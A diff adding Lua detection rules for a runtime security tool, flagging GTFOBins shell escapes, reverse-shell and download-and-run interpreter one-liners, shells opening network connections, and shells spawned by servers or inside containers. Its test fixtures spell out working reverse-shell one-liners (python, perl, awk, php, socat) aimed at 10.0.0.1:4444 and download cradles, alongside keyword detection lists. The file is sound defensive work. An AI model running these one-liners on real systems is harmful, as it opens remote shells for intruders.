@@ -1,0 +1,453 @@
+-- Execution (ATT&CK TA0002): shells escaping from programs that can run
+-- commands (GTFOBins), shells upgraded to a terminal, interpreters given
+-- network or download code on their command line, shells that talk to the
+-- network themselves, web and database servers starting shells, and
+-- interactive shells inside containers.
+--
+-- An "interactive" shell here is one that reads its commands from its
+-- input (a person, a pipe or a socket), not a script: no operand, -i, -s,
+-- or -c whose command only starts such a shell ("sh -c /bin/sh",
+-- "bash -c 'exec bash -i 0<&3'"). Scripts and `sh -c "make all"` are not.
+
+local basename, startswith = tapio.basename, tapio.startswith
+
+local SHELLS = tapio.set { "sh", "bash", "dash", "zsh", "ksh", "ksh93", "mksh", "ash", "busybox",
+                           "tcsh", "csh", "fish", "rbash", "yash", "posh" }
+
+-- Tokens a -c command may add to a bare shell and stay interactive:
+-- options, and redirections of its standard streams (to a socket fd, a
+-- /dev/tcp path...).
+local function shell_word_ok(tok)
+  return tok:find("^[-+]%a+$") ~= nil or tok:find("^%d*[<>]") ~= nil
+      or tok:find("^&?%d+$") ~= nil or startswith(tok, "/dev/") or tok == ";" or tok == "&"
+end
+
+-- Whether a -c command only starts a shell: "/bin/sh", "exec bash -i 2>&1",
+-- "/bin/sh -c '/bin/sh -i'" (less and man wrap the command in $SHELL -c).
+local function command_is_shell(cmd)
+  local first = true
+  for w in cmd:gmatch("[^%s;'\"]+") do
+    if first then
+      if w ~= "exec" then
+        if not SHELLS[basename(w)] then return false end
+        first = false
+      end
+    elseif not (shell_word_ok(w) or SHELLS[basename(w)] or w == "exec") then
+      return false
+    end
+  end
+  return not first
+end
+
+-- Whether this exec is an interactive shell (see the top of the file).
+local function interactive_shell(e)
+  if e.ret ~= 0 then return false end
+  local argv, name = e.argv, basename(e.filename)
+  if not SHELLS[name] or argv == nil then return false end
+  local i = 2
+  if name == "busybox" then
+    if not SHELLS[argv[2] or ""] then return false end
+    i = 3
+  end
+  while argv[i] do
+    local a = argv[i]
+    if a == "-" or a == "--" then return argv[i + 1] == nil end
+    if a == "--rcfile" or a == "--init-file" or a == "-o" or a == "+o" or a == "-O"
+        or a == "+O" then
+      i = i + 1
+    elseif startswith(a, "--") then
+      -- --login, --norc, --noprofile, --posix: still interactive
+    elseif a:find("^[-+]") then
+      if a:find("c", 2, true) then
+        return argv[i + 1] ~= nil and command_is_shell(argv[i + 1])
+      end
+    else
+      return false -- a script operand
+    end
+    i = i + 1
+  end
+  return true
+end
+
+-- Programs that run a command line given to them (GTFOBins' "shell"
+-- function): editors, pagers, text tools, debuggers, interpreters.
+local ESCAPERS = tapio.set {
+  "awk", "gawk", "mawk", "nawk", "busybox", "find", "xargs", "vi", "vim", "vim.basic", "vim.tiny",
+  "nvim", "view", "rvim", "rview", "ex", "ed", "red", "emacs", "nano", "pico", "less", "more",
+  "most", "pg", "man", "gdb", "lldb", "ftp", "sftp", "tar", "zip", "rsync", "nmap", "sqlite3",
+  "mysql", "psql", "sed", "git", "flock", "strace", "ltrace", "expect", "tclsh", "wish", "irb",
+  "jjs", "jrunscript", "node", "nodejs", "perl", "ruby", "php", "lua", "luajit", "python",
+  "socat", "openssl", "script", "dmesg", "journalctl", "systemctl", "ssh", "scp", "crash",
+  "time", "watch", "taskset", "env", "rlwrap", "csvtool", "gimp", "dc", "bc", "pdb",
+}
+
+local function escaper(name)
+  if name == nil then return false end
+  -- versioned interpreters: python3.11, perl5.36.0, lua5.4, php8.2, tclsh8.6
+  local stem = name:match("^(%a+)[%d.]*$") or name
+  return ESCAPERS[name] or ESCAPERS[stem] or false
+end
+
+-- Programs whose child shells are the point: terminals, multiplexers, login
+-- and privilege tools, and package or build tools that run shell snippets
+-- with a bare shell. Extend with exceptions for your own.
+local SHELL_PARENTS_EXPECTED = tapio.set {
+  "sshd", "login", "su", "sudo", "doas", "runuser", "tmux", "tmux: server", "screen", "SCREEN",
+  "xterm", "gnome-terminal-", "konsole", "alacritty", "kitty", "wezterm-gui", "terminator",
+  "code", "sh", "bash", "dash", "zsh", "fish", "ksh", "systemd", "init", "agetty",
+}
+
+rule {
+  name = "shell_escape_from_program",
+  desc = "An interactive shell was started by a program that runs commands given to it "
+      .. "(awk, find, vim, less, man, gdb, python, perl, ruby, node, lua...): the GTFOBins way "
+      .. "out of a restricted program, a sudo rule or a web application",
+  events = { "process.exec" },
+  severity = "warning",
+  importance = 0.8,
+  tags = { "mitre:T1059.004", "mitre:T1548.003", "gtfobins" },
+  when = function(e)
+    return interactive_shell(e) and escaper(e.parent.comm)
+        and not SHELL_PARENTS_EXPECTED[e.parent.comm]
+  end,
+  output = "interactive shell ${filename} (${argv}) started by ${parent.comm} (pid ${ppid}, "
+        .. "exe ${parent.exe}); uid ${uid}, pid ${pid}, container ${container.id}, "
+        .. "pod ${k8s.namespace}/${k8s.pod}",
+  tests = {
+    { event = { type = "process.exec", comm = "sh", filename = "/bin/sh", argv = { "/bin/sh" },
+                parent = { comm = "find", exe = "/usr/bin/find" }, ppid = 77 },
+      expect = true,
+      output = "interactive shell /bin/sh (/bin/sh) started by find (pid 77, exe /usr/bin/find); "
+            .. "uid 0, pid 1000, container <NA>, pod <NA>/<NA>" },
+    { event = { type = "process.exec", comm = "sh", filename = "/bin/sh",
+                argv = { "sh", "-c", "/bin/sh" }, parent = { comm = "awk" } }, expect = true },
+    { event = { type = "process.exec", comm = "bash", filename = "/bin/bash",
+                argv = { "/bin/bash", "-c", "sh" }, parent = { comm = "vim" } }, expect = true },
+    { event = { type = "process.exec", comm = "sh", filename = "/bin/sh", argv = { "/bin/sh", "-i" },
+                parent = { comm = "python3.11" } }, expect = true },
+    { event = { type = "process.exec", comm = "bash", filename = "/usr/bin/bash",
+                argv = { "bash", "-c", "exec bash -i 0<&3 1>&3 2>&3" },
+                parent = { comm = "perl" } }, expect = true },
+    { event = { type = "process.exec", comm = "sh", filename = "/bin/sh",
+                argv = { "sh", "-c", "/bin/sh -c '/bin/sh -i'" }, parent = { comm = "less" } },
+      expect = true },
+    { event = { type = "process.exec", comm = "sh", filename = "/bin/sh",
+                argv = { "sh", "-c", "/bin/sh -c id" }, parent = { comm = "less" } },
+      expect = false },
+    { event = { type = "process.exec", comm = "busybox", filename = "/bin/busybox",
+                argv = { "busybox", "sh" }, parent = { comm = "less" } }, expect = true },
+    -- a command or a script is not an interactive shell
+    { event = { type = "process.exec", comm = "sh", filename = "/bin/sh",
+                argv = { "sh", "-c", "gcc -c x.c" }, parent = { comm = "python3" } },
+      expect = false },
+    { event = { type = "process.exec", comm = "sh", filename = "/bin/sh",
+                argv = { "sh", "./configure" }, parent = { comm = "perl" } }, expect = false },
+    { event = { type = "process.exec", comm = "bash", filename = "/bin/bash", argv = { "-bash" },
+                parent = { comm = "sshd" } }, expect = false },
+    { event = { type = "process.exec", comm = "sh", filename = "/bin/sh", argv = { "/bin/sh" },
+                parent = { comm = "find" }, ret = -2 }, expect = false },
+  },
+}
+
+rule {
+  name = "shell_upgraded_to_terminal",
+  desc = "A shell was given a pseudo-terminal the way attackers upgrade a reverse shell: "
+      .. "python's pty.spawn, script -c ... /dev/null, socat's pty,setsid, expect's spawn",
+  events = { "process.exec" },
+  severity = "warning",
+  importance = 0.8,
+  tags = { "mitre:T1059.004", "mitre:T1059.006" },
+  when = function(e)
+    if e.ret ~= 0 then return false end
+    local name, c = basename(e.filename), e.cmdline
+    if name == "script" then
+      -- script -qc /bin/bash /dev/null: a terminal for a shell, the session thrown away
+      local argv, shell, null = e.argv, false, false
+      for i = 2, #argv do
+        local a = argv[i]
+        if a == "/dev/null" then null = true end
+        if command_is_shell(a) then shell = true end
+      end
+      return shell and null
+    end
+    if name == "socat" then
+      return c:find("pty", 1, true) ~= nil and (c:find("exec:", 1, true) or c:find("EXEC:", 1, true)
+          or c:find("system:", 1, true) or c:find("SYSTEM:", 1, true)) ~= nil
+          and c:find("sh", 1, true) ~= nil
+    end
+    if name:find("^python") or name:find("^perl") or name:find("^ruby") then
+      return c:find("pty.spawn", 1, true) ~= nil or c:find("pty.fork", 1, true) ~= nil
+          or c:find("IO::Pty", 1, true) ~= nil or c:find("PTY.spawn", 1, true) ~= nil
+    end
+    if name == "expect" then
+      return c:find("spawn", 1, true) ~= nil and c:find("sh", 1, true) ~= nil
+    end
+    return false
+  end,
+  output = "${comm} gave a shell a terminal: ${argv} (pid ${pid}, uid ${uid}, parent "
+        .. "${parent.comm} pid ${ppid}, container ${container.id}, pod ${k8s.namespace}/${k8s.pod})",
+  tests = {
+    { event = { type = "process.exec", comm = "python3", filename = "/usr/bin/python3",
+                argv = { "python3", "-c", "import pty; pty.spawn('/bin/bash')" } }, expect = true },
+    { event = { type = "process.exec", comm = "script", filename = "/usr/bin/script",
+                argv = { "script", "-qc", "/bin/bash", "/dev/null" } }, expect = true },
+    { event = { type = "process.exec", comm = "socat", filename = "/usr/bin/socat",
+                argv = { "socat", "exec:bash -li,pty,stderr,setsid,sigint,sane", "tcp:10.0.0.1:4444" } },
+      expect = true },
+    { event = { type = "process.exec", comm = "script", filename = "/usr/bin/script",
+                argv = { "script", "session.log" } }, expect = false },
+    { event = { type = "process.exec", comm = "python3", filename = "/usr/bin/python3",
+                argv = { "python3", "-m", "pytest" } }, expect = false },
+  },
+}
+
+-- Inline code of an interpreter: what follows -c, -e, -r, --eval, or awk's
+-- program text. nil when the code comes from a file.
+local INLINE_FLAG = {
+  python = { ["-c"] = true }, perl = { ["-e"] = true, ["-E"] = true },
+  ruby = { ["-e"] = true }, node = { ["-e"] = true, ["--eval"] = true, ["-p"] = true,
+                                     ["--print"] = true },
+  nodejs = { ["-e"] = true, ["--eval"] = true }, php = { ["-r"] = true },
+  lua = { ["-e"] = true }, luajit = { ["-e"] = true }, pwsh = { ["-c"] = true,
+                                                              ["-Command"] = true },
+}
+local AWKS = tapio.set { "awk", "gawk", "mawk", "nawk" }
+
+local function inline_code(e)
+  local name = basename(e.filename)
+  if name == nil or e.argv == nil then return nil end
+  local stem = name:match("^(%a+)[%d.]*$") or name
+  local argv = e.argv
+  if AWKS[stem] then
+    local i = 2
+    while argv[i] do
+      local a = argv[i]
+      if a == "-f" or startswith(a, "--file") then return nil end
+      if a == "-F" or a == "-v" then
+        i = i + 1 -- the next one is the option's argument
+      elseif not startswith(a, "-") then
+        return a
+      end
+      i = i + 1
+    end
+    return nil
+  end
+  local flags = INLINE_FLAG[stem]
+  if not flags then return nil end
+  for i = 2, #argv do
+    local a = argv[i]
+    if flags[a] then return argv[i + 1] end
+    -- python -Sc 'code', perl -ne 'code'
+    local short = a:match("^%-(%a+)$")
+    if short and stem ~= "node" and stem ~= "nodejs" then
+      local last = short:sub(-1)
+      if flags["-" .. last] and #short > 1 then return argv[i + 1] end
+    end
+    if not startswith(a, "-") then return nil end -- a script file
+  end
+  return nil
+end
+
+local function any(s, list)
+  for _, p in ipairs(list) do
+    if s:find(p, 1, true) then return p end
+  end
+  return nil
+end
+
+-- What code connects with, and what it runs commands with.
+local NET_CALLS = {
+  "socket.socket", "create_connection", "connect(", "use Socket", "IO::Socket", "Socket::", "TCPSocket",
+  "UDPSocket", "Socket.new", "net.connect", "net.createConnection", "new net.Socket",
+  "require('net')", 'require("net")', "fsockopen", "stream_socket_client", "/inet/tcp/",
+  "/inet/udp/", "socket.tcp", "socket.connect", "/dev/tcp/", "/dev/udp/",
+}
+local RUN_CALLS = {
+  "dup2", "pty.spawn", "subprocess", "os.system", "os.popen", "os.exec", "exec(", "exec ",
+  "system", "spawn(", "popen", "child_process", "proc_open", "shell_exec", "passthru", "os.execute", "io.popen", "Open3", "`", "|&", "/bin/sh", "/bin/bash", "sh -i", "cmd.exe",
+}
+
+rule {
+  name = "interpreter_reverse_shell_code",
+  desc = "An interpreter was started with inline code that opens a network connection and "
+      .. "runs a shell or commands over it: a reverse or bind shell one-liner (python, perl, "
+      .. "ruby, php, node, lua, awk)",
+  events = { "process.exec" },
+  severity = "critical",
+  importance = 0.95,
+  tags = { "mitre:T1059.006", "mitre:T1059.004", "mitre:T1071" },
+  when = function(e)
+    if e.ret ~= 0 then return false end
+    local code = inline_code(e)
+    return code ~= nil and any(code, NET_CALLS) ~= nil and any(code, RUN_CALLS) ~= nil
+  end,
+  output = "reverse shell one-liner in ${comm} (pid ${pid}, uid ${uid}, parent ${parent.comm} "
+        .. "pid ${ppid}, container ${container.id}, pod ${k8s.namespace}/${k8s.pod}): ${argv}",
+  tests = {
+    { event = { type = "process.exec", comm = "python3", filename = "/usr/bin/python3",
+                argv = { "python3", "-c", "import socket,subprocess,os;s=socket.socket();"
+                      .. "s.connect(('10.0.0.1',4444));os.dup2(s.fileno(),0);"
+                      .. "subprocess.call(['/bin/sh','-i'])" } }, expect = true },
+    { event = { type = "process.exec", comm = "perl", filename = "/usr/bin/perl",
+                argv = { "perl", "-MIO", "-e", "$c=new IO::Socket::INET(PeerAddr,'10.0.0.1:4444');"
+                      .. "STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;" } },
+      expect = true },
+    { event = { type = "process.exec", comm = "awk", filename = "/usr/bin/gawk",
+                argv = { "awk", "BEGIN {s = \"/inet/tcp/0/10.0.0.1/4444\"; while ((s |& getline c) > 0) "
+                      .. "{ while ((c |& getline) > 0) print $0 |& s } }" } }, expect = true },
+    { event = { type = "process.exec", comm = "php", filename = "/usr/bin/php",
+                argv = { "php", "-r", "$s=fsockopen('10.0.0.1',4444);exec('/bin/sh -i <&3 >&3');" } },
+      expect = true },
+    { event = { type = "process.exec", comm = "python3", filename = "/usr/bin/python3",
+                argv = { "python3", "-c", "import socket; print(socket.gethostname())" } },
+      expect = false },
+    { event = { type = "process.exec", comm = "python3", filename = "/usr/bin/python3",
+                argv = { "python3", "script.py", "-c", "s.connect() os.system" } }, expect = false },
+  },
+}
+
+local FETCH_CALLS = {
+  "urlopen", "urllib.request", "urlretrieve", "requests.get", "http.client", "httpx.",
+  "LWP::", "HTTP::Tiny", "getstore(", "Net::HTTP", "open-uri", "URI.open", "http.get(",
+  "https.get(", "require('http", 'require("http', "fetch(", "file_get_contents('http", 'file_get_contents("http', "curl_exec",
+  "wget ", "curl ", "socket.http",
+}
+local EXEC_CALLS = {
+  "exec(", "eval(", "subprocess", "os.system", "os.popen", "system(", "chmod", "spawn(",
+  "execSync", "child_process", "shell_exec", "passthru", "os.execute", "loadstring", "load(",
+  "| sh", "|sh", "| bash", "|bash",
+}
+
+rule {
+  name = "interpreter_download_and_run",
+  desc = "An interpreter was started with inline code that fetches something over the "
+      .. "network and runs it or makes it executable: a download cradle",
+  events = { "process.exec" },
+  severity = "warning",
+  importance = 0.85,
+  tags = { "mitre:T1105", "mitre:T1059.006" },
+  when = function(e)
+    if e.ret ~= 0 then return false end
+    local code = inline_code(e)
+    return code ~= nil and any(code, FETCH_CALLS) ~= nil and any(code, EXEC_CALLS) ~= nil
+  end,
+  output = "download-and-run code in ${comm} (pid ${pid}, uid ${uid}, parent ${parent.comm} "
+        .. "pid ${ppid}, container ${container.id}, pod ${k8s.namespace}/${k8s.pod}): ${argv}",
+  tests = {
+    { event = { type = "process.exec", comm = "python3", filename = "/usr/bin/python3",
+                argv = { "python3", "-c", "import urllib.request as u;exec(u.urlopen('http://x/a').read())" } },
+      expect = true },
+    { event = { type = "process.exec", comm = "perl", filename = "/usr/bin/perl",
+                argv = { "perl", "-MLWP::Simple", "-e", "getstore('http://x/a','/tmp/a');system('chmod +x /tmp/a')" } },
+      expect = true },
+    { event = { type = "process.exec", comm = "node", filename = "/usr/bin/node",
+                argv = { "node", "-e", "require('http').get('http://x/a',r=>{let d='';r.on('data',c=>d+=c);"
+                      .. "r.on('end',()=>eval(d))})" } }, expect = true },
+    { event = { type = "process.exec", comm = "python3", filename = "/usr/bin/python3",
+                argv = { "python3", "-c", "import urllib.request as u;print(u.urlopen('http://x').status)" } },
+      expect = false },
+  },
+}
+
+rule {
+  name = "shell_opened_network_connection",
+  desc = "A shell or awk opened a network connection itself (bash's /dev/tcp, gawk's "
+      .. "/inet/tcp): shells do not talk to the network, reverse shells do",
+  events = { "network.connect" },
+  severity = "critical",
+  importance = 0.95,
+  tags = { "mitre:T1059.004", "mitre:T1071" },
+  when = function(e)
+    local name = basename(e.exe) or e.comm
+    -- port 0: getaddrinfo's connect of a UDP socket to pick a source address
+    return (e.family == 2 or e.family == 10) and e.dport ~= 0 and (SHELLS[name] or AWKS[name]
+        or SHELLS[e.comm] or AWKS[e.comm])
+  end,
+  output = "${comm} (pid ${pid}, exe ${exe}, uid ${uid}, parent ${parent.comm} pid ${ppid}) "
+        .. "connected to ${daddr}:${dport}; container ${container.id}, "
+        .. "pod ${k8s.namespace}/${k8s.pod}; command: ${argv}",
+  tests = {
+    { event = { type = "network.connect", comm = "bash", exe = "/usr/bin/bash", family = 2,
+                daddr = "10.0.0.1", dport = 4444, ret = 0 }, expect = true },
+    { event = { type = "network.connect", comm = "gawk", exe = "/usr/bin/gawk", family = 2,
+                daddr = "10.0.0.1", dport = 4444, ret = -115 }, expect = true },
+    { event = { type = "network.connect", comm = "gawk", exe = "/usr/bin/gawk", family = 10,
+                daddr = "::1", dport = 0 }, expect = false },
+    { event = { type = "network.connect", comm = "bash", exe = "/usr/bin/bash", family = 1,
+                unix_path = "/run/dbus/system_bus_socket" }, expect = false },
+    { event = { type = "network.connect", comm = "curl", exe = "/usr/bin/curl", family = 2,
+                daddr = "10.0.0.1", dport = 80 }, expect = false },
+  },
+}
+
+local WEB_AND_DB_SERVERS = tapio.set {
+  "nginx", "httpd", "apache2", "apache", "lighttpd", "caddy", "php-fpm", "php-cgi", "php-fpm8.2",
+  "uwsgi", "tomcat", "catalina", "jetty", "traefik", "haproxy", "envoy", "openresty",
+  "mysqld", "mariadbd", "postgres", "postmaster", "redis-server", "mongod", "memcached",
+  "influxd", "elasticsearch", "couchdb", "rabbitmq-server", "beam.smp",
+}
+local SHELL_OR_RECON = tapio.set {
+  "sh", "bash", "dash", "zsh", "ksh", "ash", "busybox", "python", "python3", "perl", "ruby",
+  "php", "lua", "node", "nc", "ncat", "netcat", "socat", "curl", "wget", "id", "whoami",
+  "uname", "hostname", "ifconfig", "ip", "ps", "cat", "ls", "w", "who", "netstat", "ss",
+}
+
+rule {
+  name = "server_process_spawned_shell",
+  desc = "A web or database server started a shell, an interpreter or a reconnaissance "
+      .. "command: a web shell or an exploited server running the attacker's commands",
+  events = { "process.exec" },
+  severity = "error",
+  importance = 0.9,
+  tags = { "mitre:T1505.003", "mitre:T1190", "mitre:T1059" },
+  when = function(e)
+    if e.ret ~= 0 then return false end
+    local p = e.parent.comm
+    if p == nil then return false end
+    local stem = p:match("^(php%-fpm)") or p
+    return (WEB_AND_DB_SERVERS[p] or WEB_AND_DB_SERVERS[stem]) ~= nil
+        and SHELL_OR_RECON[(basename(e.filename) or ""):match("^(%a+)[%d.]*$") or ""] ~= nil
+  end,
+  output = "${parent.comm} (pid ${ppid}, exe ${parent.exe}) started ${filename}: ${argv} "
+        .. "(pid ${pid}, uid ${uid}, container ${container.id}, pod ${k8s.namespace}/${k8s.pod})",
+  tests = {
+    { event = { type = "process.exec", comm = "sh", filename = "/bin/sh",
+                argv = { "sh", "-c", "id" }, parent = { comm = "php-fpm8.2" } }, expect = true },
+    { event = { type = "process.exec", comm = "whoami", filename = "/usr/bin/whoami",
+                argv = { "whoami" }, parent = { comm = "httpd" } }, expect = true },
+    { event = { type = "process.exec", comm = "python3.11", filename = "/usr/bin/python3.11",
+                argv = { "python3" }, parent = { comm = "nginx" } }, expect = true },
+    { event = { type = "process.exec", comm = "nginx", filename = "/usr/sbin/nginx",
+                argv = { "nginx", "-s", "reload" }, parent = { comm = "nginx" } }, expect = false },
+    { event = { type = "process.exec", comm = "sh", filename = "/bin/sh",
+                argv = { "sh", "-c", "id" }, parent = { comm = "make" } }, expect = false },
+  },
+}
+
+rule {
+  name = "interactive_shell_in_container",
+  desc = "An interactive shell started inside a container (docker exec -it, kubectl exec, "
+      .. "a shell from an exploited process): containers run services, not people",
+  events = { "process.exec" },
+  severity = "warning",
+  importance = 0.8,
+  tags = { "mitre:T1059.004", "mitre:T1609", "container" },
+  when = function(e)
+    return e.container.id ~= nil and interactive_shell(e)
+  end,
+  output = "shell ${filename} (${argv}) in container ${container.id} (${container.runtime}), "
+        .. "pod ${k8s.namespace}/${k8s.pod}: pid ${pid}, uid ${uid}, parent ${parent.comm} "
+        .. "pid ${ppid}",
+  tests = {
+    { event = { type = "process.exec", comm = "sh", filename = "/bin/sh", argv = { "sh" },
+                container = { id = "abc", runtime = "docker" }, parent = { comm = "runc" } },
+      expect = true,
+      output = "shell /bin/sh (sh) in container abc (docker), pod <NA>/<NA>: pid 1000, uid 0, "
+            .. "parent runc pid 1" },
+    { event = { type = "process.exec", comm = "sh", filename = "/bin/sh",
+                argv = { "sh", "-c", "nginx -g 'daemon off;'" }, container = { id = "abc" } },
+      expect = false },
+    { event = { type = "process.exec", comm = "sh", filename = "/bin/sh", argv = { "sh" } },
+      expect = false },
+  },
+}
